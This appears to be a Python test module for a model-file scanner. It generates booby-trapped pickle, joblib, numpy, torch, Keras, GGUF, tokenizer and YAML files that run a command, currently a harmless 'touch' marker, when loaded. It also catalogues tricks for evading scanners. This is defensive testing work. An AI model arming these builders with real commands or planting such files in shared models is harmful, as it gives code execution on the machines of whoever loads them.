"""Hostile model files: every way of getting code into a model file that the scanner must catch.

Each technique is a function `build(folder, call) -> [paths]` that writes one or more files whose
loading would call `call = (module, name, argument)`. Armed, the call is `os.system("touch
MARKER")` or another route to a command; for the structural tricks a harmless twin calls a
marker function instead, and the differential tests load that twin with the real loader (in a
subprocess) to show the loader really runs code placed that way. Nothing here is ever loaded by
the scanner or the benchmark.

Families: ROUTES (names that reach code execution through allowed packages, stdlib helpers,
resolvers); STRUCTURE (parser tricks: where the real loaders read opcodes that a naive scanner
skips); KERAS; FOLDERS. `HOLDOUT` lists techniques written after the scanner was tuned, kept to
judge it (see benchmarks/README.md).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

Call = tuple[str, str, str]


# ---------------------------------------------------------------------------- pickle builders
def _str(text: str) -> bytes:
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) + raw) if len(raw) < 256 else \
        (b"X" + struct.pack("<I", len(raw)) + raw)


def call_ops(module: str, name: str, arg: str) -> bytes:
    """Opcodes (no PROTO, no STOP) that call module.name(arg) and leave the result on the stack."""
    return _str(module) + _str(name) + b"\x93" + _str(arg) + b"\x85R"


def stack_global(module: str, name: str, arg: str) -> bytes:
    return b"\x80\x04" + call_ops(module, name, arg) + b"."


def global0(module: str, name: str, arg: str) -> bytes:
    """Protocol 0: GLOBAL, then REDUCE."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


# ---------------------------------------------------------------------------- routes
def route(module: str, name: str) -> Callable[[str], bytes]:
    return lambda cmd: stack_global(module, name, cmd)


def _reconstructor_popen(cmd: str) -> bytes:
    # copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state): Popen runs cmd
    return (b"\x80\x04" + _str("copyreg") + _str("_reconstructor") + b"\x93" +
            _str("subprocess") + _str("Popen") + b"\x93" + _str("subprocess") + _str("Popen") +
            b"\x93" + _str(cmd) + b"\x87R.")


def _typing_function_type(cmd: str) -> bytes:
    # types.FunctionType reached through typing's attribute `types`, handed to a helper
    return (b"\x80\x04" + _str("copyreg") + _str("_reconstructor") + b"\x93" +
            _str("typing") + _str("types.FunctionType") + b"\x93" + _str("builtins") +
            _str("object") + b"\x93" + _str(cmd) + b"\x87R.")


def _resolve_name(cmd: str) -> bytes:
    # pkgutil.resolve_name("os:system")(cmd)
    return (b"\x80\x04" + call_ops("pkgutil", "resolve_name", "os:system") + _str(cmd) +
            b"\x85R.")


def _computed_name(cmd: str) -> bytes:
    # the module name comes out of a call (str("os")), so no scanner can read it as a constant
    return (b"\x80\x04" + call_ops("builtins", "str", "os") + _str("system") + b"\x93" +
            _str(cmd) + b"\x85R.")


def _dict_config(cmd: str) -> bytes:
    # logging.config.dictConfig with a handler whose class is a string path: it imports it and
    # calls it with the given arguments
    config = {"version": 1, "handlers": {"h": {"()": "os.system", "command": cmd}}}
    inner = pickle.dumps(config, protocol=4)[2:-1]   # the dict's opcodes
    return b"\x80\x04" + _str("logging.config") + _str("dictConfig") + b"\x93" + inner + \
        b"\x85R."


def _nested_private_loads(cmd: str) -> bytes:
    inner = stack_global("os", "system", cmd)
    return (b"\x80\x04" + _str("pickle") + _str("_loads") + b"\x93C" + bytes([len(inner)]) +
            inner + b"\x85R.")


def _builtins_lookup(cmd: str) -> bytes:
    # builtins.dict.get(torch.__builtins__, "exec")(cmd)
    return (b"\x80\x04" + _str("builtins") + _str("dict.get") + b"\x93" + _str("torch") +
            _str("__builtins__") + b"\x93" + _str("exec") + b"\x86R" + _str(cmd) + b"\x85R.")


def _proto0_exec(cmd: str) -> bytes:
    return global0("__builtin__", "exec", f"__import__('os').system({cmd!r})")


ROUTES: dict[str, Callable[[str], bytes]] = {
    "torch-collect_env-subprocess": route("torch.utils.collect_env", "subprocess.getoutput"),
    "joblib-loky-subprocess": route("joblib.externals.loky.backend.utils", "subprocess.getoutput"),
    "joblib-os-system": route("joblib.numpy_pickle", "os.system"),
    "posixpath-os-system": route("posixpath", "os.system"),
    "torch-multiprocessing-process": route("torch.multiprocessing", "Process"),
    "reconstructor-popen": _reconstructor_popen,
    "typing-types-functiontype": _typing_function_type,
    "pkgutil-resolve-name": _resolve_name,
    "logging-dictconfig": _dict_config,
    "torch-fx-reduce-graph-module": route("torch.fx.graph_module", "reduce_graph_module"),
    "torch-pycodecache-load": route("torch._inductor.codecache", "PyCodeCache.load"),
    "joblib-numpy-pickle-load": route("joblib.numpy_pickle", "load"),
    "pickle-private-loads": _nested_private_loads,
    "proto0-builtin-exec": _proto0_exec,
    "builtins-dict-lookup": _builtins_lookup,
    "computed-module-name": _computed_name,
    "osx-support-read-output": route("_osx_support", "_read_output"),
    "uuid-get-command-stdout": route("uuid", "_get_command_stdout"),
    "pip-internal-main": route("pip._internal", "main"),
    "ctypes-pythonapi": route("joblib.externals.loky.backend.context",
                              "ctypes.pythonapi.PyRun_SimpleString"),
    "runpy-run-path": route("runpy", "run_path"),
    "code-interact": route("code", "InteractiveInterpreter"),
}


# ---------------------------------------------------------------------------- structure
def first_opcode(call: Call) -> bytes:
    """No PROTO, and a first opcode (NONE, POP) that a sniffer listing 'pickle starts' misses."""
    return b"N0" + call_ops(*call) + b"."


def mark_pop(call: Call) -> bytes:
    """MARK then POP at the start: CPython pops the mark, and the stream goes on."""
    return b"(0" + call_ops(*call) + b"."


class _Reduced:
    def __init__(self, reduced: tuple[object, ...]) -> None:
        self.reduced = reduced

    def __reduce__(self) -> tuple[object, ...]:
        return self.reduced


def _wrapper_pickle(dtype_state: tuple[object, ...] | None, count: int, dtype: str,
                    alignment: int | None) -> bytes:
    """A pickle of a joblib NumpyArrayWrapper (as joblib writes one), without its STOP."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper
    dt = np.dtype(dtype)
    dt_obj: object = dt if dtype_state is None else _Reduced((np.dtype, (dtype, False, True),
                                                              dtype_state))
    state = {"subclass": np.ndarray, "shape": (count,), "order": "C", "dtype": dt_obj,
             "allow_mmap": False, "numpy_array_alignment_bytes": alignment}
    wrapper = NumpyArrayWrapper.__new__(NumpyArrayWrapper)
    wrapper.__dict__.update(state)
    return pickle.dumps(wrapper, protocol=2)[:-1]


def joblib_tail(call: Call) -> bytes:
    """Opcodes in a joblib array's bytes: joblib.load reads them as data, pickle.load and
    torch.load run them."""
    ops = call_ops(*call) + b"0"                      # call, POP
    return _wrapper_pickle(None, len(ops), "u1", None) + ops + b"."


def joblib_itemsize(call: Call) -> bytes:
    """A float64 array whose pickled dtype state claims item size 1: numpy ignores it, so joblib
    reads 8 bytes per item; a scanner that believes it resumes too early."""
    ops = call_ops(*call) + b"0"
    filler = b"N0" * 8                              # what a desynchronised scanner would read
    count = 4
    data = filler + b"\x00" * (count * 8 - len(filler))
    state = (3, "<", None, None, None, 1, 1, 0)
    return _wrapper_pickle(state, count, "<f8", None) + data + ops + b"."


def npy_object_descr(call: Call) -> bytes:
    """A .npy whose header spells the object dtype 'object' rather than '|O'."""
    header = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + \
        b"\x80\x04" + call_ops(*call) + b"\x85."   # one object: a tuple holding the call


def old_joblib_sibling(folder: Path, call: Call, stem: str) -> list[Path]:
    """joblib <= 0.9 wrapper: joblib.load opens the named sibling with np.load(allow_pickle)."""
    import numpy as np
    sibling = folder / f"{stem}.data"               # no .npy name: content decides
    sibling.write_bytes(npy_object_descr(call))
    from joblib.numpy_pickle_compat import NDArrayWrapper
    state = {"filename": sibling.name, "subclass": np.ndarray, "allow_mmap": False}
    main = folder / f"{stem}.pkl"
    wrapper = NDArrayWrapper.__new__(NDArrayWrapper)
    wrapper.__dict__.update(state)
    main.write_bytes(pickle.dumps(wrapper, protocol=2))
    return [main, sibling]


def _torch_zip(payload: bytes, extra_first: int = 0, bad_crc: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for i in range(extra_first):
            z.writestr(f"archive/pad/{i}", b"")
        z.writestr("archive/data.pkl", payload)
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/.data/serialization_id", b"0")
    raw = bytearray(buf.getvalue())
    if bad_crc:
        at = raw.find(b"archive/data.pkl")           # local header: CRC at name - 16
        raw[at - 16:at - 12] = b"\x00\x00\x00\x00"
        central = raw.find(b"archive/data.pkl", at + 1)
        raw[central - 30:central - 26] = b"\x00\x00\x00\x00"
    return bytes(raw)


def torch_many_members(call: Call) -> bytes:
    return _torch_zip(stack_global(*call), extra_first=10_001)


def torch_bad_crc(call: Call) -> bytes:
    return _torch_zip(stack_global(*call), bad_crc=True)


def polyglot(call: Call) -> bytes:
    """A pickle at the start (pickle.load, legacy torch.load) and a harmless zip at the end
    (zipfile, Keras): a scanner that takes it for a zip misses the pickle."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {}}))
    return stack_global(*call) + buf.getvalue()


def torch_legacy_tar(call: Call) -> bytes:
    """torch's oldest format: a tar whose members 'sys_info', 'pickle', 'storages', 'tensors'
    torch.load unpickles."""
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in {"sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
                           "pickle": stack_global(*call),
                           "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
                           "tensors": pickle.dumps(0, protocol=2)}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


STRUCTURE: dict[str, tuple[Callable[[Call], bytes], str, str]] = {
    # name: (builder, file name, the loader that runs it: pickle | joblib | numpy | torch)
    "first-opcode": (first_opcode, "model.bin", "pickle"),
    "mark-pop-safetensors": (mark_pop, "model.safetensors", "pickle"),
    "mark-pop-npy": (mark_pop, "weights.npy", "numpy"),
    "joblib-tail-plain-pickle": (joblib_tail, "model.joblib", "pickle"),
    "joblib-itemsize-desync": (joblib_itemsize, "model.joblib", "joblib"),
    "npy-object-descr": (npy_object_descr, "arr.npy", "numpy"),
    "torch-many-members": (torch_many_members, "model.pt", "torch"),
    "torch-bad-crc": (torch_bad_crc, "model.pt", "torch"),
    "pickle-zip-polyglot": (polyglot, "model.keras", "pickle"),
    "torch-legacy-tar": (torch_legacy_tar, "model.pt", "torch"),
}


# ---------------------------------------------------------------------------- keras
def _keras_config(layer: dict[str, object]) -> dict[str, object]:
    return {"module": "keras", "class_name": "Sequential",
            "config": {"name": "s", "layers": [layer]}}


_LAMBDA = {"module": "keras.layers", "class_name": "Lambda",
           "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {
               "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTAKkBTqkAqQHaAXhyAgAAAHIC"
                       "AAAA+gg8c3RkaW4+2gg8bGFtYmRhPgEAAADzAgAAAAQA", "defaults": None,
               "closure": None}}}}
_LAMBDA_ACTIVATION = {"module": "keras.layers", "class_name": "Dense",
                      "config": {"units": 2, "activation": {"class_name": "__lambda__",
                                                            "config": {"code": "4wEAAAA="}}}}


def _keras_zip(config: dict[str, object], metadata: bool = True, junk: bytes = b"") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("config.json", json.dumps(config))
        if metadata:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    return junk + buf.getvalue()


def _h5(config: dict[str, object], spaced: bool = False, user_block: int = 0) -> bytes:
    text = json.dumps(config, separators=(", ", " : ") if spaced else None).encode()
    return b"\x00" * user_block + b"\x89HDF\r\n\x1a\n" + b"\x00" * 200 + b"model_config" + \
        b"\x00" * 8 + text + b"\x00" * 64


KERAS: dict[str, Callable[[Path], list[Path]]] = {}


def _keras(name: str, file: str, data: Callable[[], bytes]) -> None:
    def build(folder: Path) -> list[Path]:
        path = folder / file
        path.write_bytes(data())
        return [path]
    KERAS[name] = build


_keras("keras-no-metadata", "m.keras", lambda: _keras_zip(_keras_config(_LAMBDA), False))
_keras("keras-behind-junk", "m.keras",
       lambda: _keras_zip(_keras_config(_LAMBDA), junk=b"JUNK" * 100))
_keras("h5-spaced-json", "m.h5", lambda: _h5(_keras_config(_LAMBDA), spaced=True))
_keras("h5-user-block", "m.h5", lambda: _h5(_keras_config(_LAMBDA), user_block=512))
_keras("keras-lambda-activation", "m.keras",
       lambda: _keras_zip(_keras_config(_LAMBDA_ACTIVATION)))


def _keras_folder(folder: Path) -> list[Path]:
    model = folder / "saved_model_dir"
    model.mkdir(exist_ok=True)
    (model / "config.json").write_text(json.dumps(_keras_config(_LAMBDA)))
    (model / "metadata.json").write_text(json.dumps({"keras_version": "3.5.0"}))
    return [model]


KERAS["keras-unzipped-folder"] = _keras_folder


# ---------------------------------------------------------------------------- templates, yaml
def gguf(template: str) -> bytes:
    """A GGUF file (header and metadata only) whose chat template is `template`: llama.cpp's
    Python bindings rendered it with an unsandboxed Jinja environment (CVE-2024-34359)."""
    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw
    kvs = [("general.architecture", 8, text("llama")),
           ("tokenizer.chat_template", 8, text(template)),
           ("llama.context_length", 4, struct.pack("<I", 4096))]
    body = b"".join(text(k) + struct.pack("<I", t) + v for k, t, v in kvs)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + body


SSTI = ("{{ ''.__class__.__mro__[1].__subclasses__()[140].__init__.__globals__['popen']"
        "('touch MARK').read() }}")
BENIGN_TEMPLATE = ("{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}"
                   "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}")
YAML_APPLY = "model:\n  layers: 3\n  init: !!python/object/apply:os.system ['touch MARK']\n"

TEMPLATES: dict[str, tuple[str, Callable[[str], bytes]]] = {
    "gguf-chat-template-ssti": ("model.gguf", lambda cmd: gguf(SSTI.replace("touch MARK", cmd))),
    "tokenizer-config-chat-template": ("tokenizer_config.json", lambda cmd: json.dumps(
        {"chat_template": SSTI.replace("touch MARK", cmd)}).encode()),
    "yaml-python-apply": ("config.yaml", lambda cmd: YAML_APPLY.replace("touch MARK",
                                                                       cmd).encode()),
}


# ---------------------------------------------------------------------------- folders
def hf_snapshot(folder: Path, payload: bytes) -> list[Path]:
    """A Hugging Face cache: the snapshot's files are links into blobs/."""
    repo = folder / "models--acme--net"
    (repo / "blobs").mkdir(parents=True, exist_ok=True)
    snap = repo / "snapshots" / "0123abcd"
    snap.mkdir(parents=True, exist_ok=True)
    blob = repo / "blobs" / "9f86d081884c7d659a2feaa0c55ad015"
    blob.write_bytes(payload)
    link = snap / "pytorch_model.bin"
    if not link.exists():
        link.symlink_to(os.path.relpath(blob, snap))
    return [snap]


def hidden_folder(folder: Path, payload: bytes, name: str) -> list[Path]:
    sub = folder / "project" / name / "cache"
    sub.mkdir(parents=True, exist_ok=True)
    (sub / "model.pkl").write_bytes(payload)
    return [folder / "project"]


# ---------------------------------------------------------------------------- hold-out
# Written after the scanner was tuned on the families above and never used to tune it.
HOLDOUT: dict[str, Callable[[str], bytes]] = {
    "shutil-copy": route("shutil", "copyfile"),
    "importlib-import-module": route("importlib", "import_module"),
    "sklearn-joblib-os": route("sklearn.utils._joblib", "os.system"),
    "numpy-ctypeslib": route("numpy.ctypeslib", "ctypes.CDLL"),
    "operator-methodcaller": route("operator", "methodcaller"),
    "webbrowser-open": route("webbrowser", "open"),
    "torch-hub-load": route("torch.hub", "load"),
    "pydoc-pipepager": route("pydoc", "pipepager"),
    "getattr-chain": lambda cmd: (b"\x80\x04" + _str("builtins") + _str("getattr") + b"\x93" +
                                  call_ops("builtins", "__import__", "os") + _str("system") +
                                  b"\x86R" + _str(cmd) + b"\x85R."),
    "pandas-read-pickle": route("pandas", "read_pickle"),
    "scipy-io-loadmat": route("scipy.io", "loadmat"),
    "multiprocessing-util-spawnv": route("multiprocessing.util", "spawnv_passfds"),
    "distutils-spawn": route("distutils.spawn", "spawn"),
    "sklearn-utils-fixes-os": route("sklearn.utils.fixes", "os.system"),
}


def armed_command(marker: Path) -> str:
    return f"touch {marker}"


def write_all(folder: Path, marker: Path) -> dict[str, list[Path]]:
    """Every armed technique under `folder`: {technique: the paths to scan}."""
    folder.mkdir(parents=True, exist_ok=True)
    cmd = armed_command(marker)
    armed: Call = ("os", "system", cmd)
    out: dict[str, list[Path]] = {}
    for name, make in {**ROUTES, **{f"holdout-{k}": v for k, v in HOLDOUT.items()}}.items():
        path = folder / f"{name}.pkl"
        path.write_bytes(make(cmd))
        out[name] = [path]
    for name, (build, file, _) in STRUCTURE.items():
        sub = folder / name
        sub.mkdir(exist_ok=True)
        (sub / file).write_bytes(build(armed))
        out[name] = [sub / file]
    sub = folder / "old-joblib-sibling"
    sub.mkdir(exist_ok=True)
    out["old-joblib-sibling"] = old_joblib_sibling(sub, armed, "model")
    for name, make_keras in KERAS.items():
        sub = folder / name
        sub.mkdir(exist_ok=True)
        out[name] = make_keras(sub)
    for name, (file, make_text) in TEMPLATES.items():
        sub = folder / name
        sub.mkdir(exist_ok=True)
        (sub / file).write_bytes(make_text(cmd))
        out[name] = [sub / file]
    out["hf-snapshot-symlink"] = hf_snapshot(folder / "hf", stack_global(*armed))
    out["venv-folder"] = hidden_folder(folder / "v", stack_global(*armed), "venv")
    out["dvc-folder"] = hidden_folder(folder / "d", stack_global(*armed), ".dvc")
    return out
